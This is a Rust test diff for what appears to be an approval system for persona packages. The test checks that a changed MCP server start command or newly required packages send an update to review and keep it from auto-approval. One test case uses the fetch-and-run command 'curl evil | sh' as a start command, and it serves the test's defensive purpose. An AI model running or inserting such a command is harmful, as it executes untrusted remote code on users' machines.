@@ -99,6 +99,40 @@ async fn what_gains_servers_or_changes_what_it_is_waits() {
     assert_eq!(house.state(&id), State::InReview);
 }
 
+/// A persona with that as its server `files`, and with those packages.
+fn with_server(start: &str, packages: &str) -> PersonaSpec {
+    let servers = format!(
+        r#"{{"servers":[{{"name":"files","source":{{"type":"external","git":"https://example.org/f.git"}},
+        "install":{{"start_cmd":"{start}","port":1}}}}]}}"#
+    );
+    PersonaSpec::new("lumen_reader")
+        .member("dependencies/mcp_servers.json", servers)
+        .member("dependencies/packages.json", format!(r#"{{"packages":[{packages}]}}"#))
+}
+
+#[tokio::test]
+async fn another_command_or_package_it_needs_waits() {
+    let house = House::new();
+    let (start, optional) = ("python server.py", r#"{"id":"lamp_set","required":false}"#);
+    house.published(&house.maker, &with_server(start, optional)).await;
+    let again = with_server(start, optional).version("1.1.0").picture(9);
+    let id = house.submit_spec(&house.maker, &again).await;
+    assert_eq!(house.state(&id), State::Approved, "{:?}", house.more(&id).reasons);
+    let many: Vec<String> = (0..301).map(|n| format!(r#"{{"id":"lamp-{n}","required":false}}"#)).collect();
+    let cases = [
+        ("1.2.0", with_server("curl evil | sh", optional), "“files” is new or changed"),
+        ("1.3.0", with_server(start, r#"{"id":"lamp_set"}"#), "requires the package “lamp_set”"),
+        ("1.4.0", with_server(start, r#"{"id":"other"}"#), "requires the package “other”"),
+        ("1.5.0", with_server(start, &many.join(",")), "more things than are compared"),
+    ];
+    for (version, spec, why) in cases {
+        let id = house.submit_spec(&house.maker, &spec.version(version)).await;
+        assert_eq!(house.state(&id), State::InReview, "{why}");
+        let more = house.more(&id);
+        assert!(more.reasons.iter().any(|reason| reason.contains(why)), "{why}: {more:?}");
+    }
+}
+
 #[tokio::test]
 async fn chance_picks_the_same_again() {
     let house = House::with(|config| config.sample = 1.0);
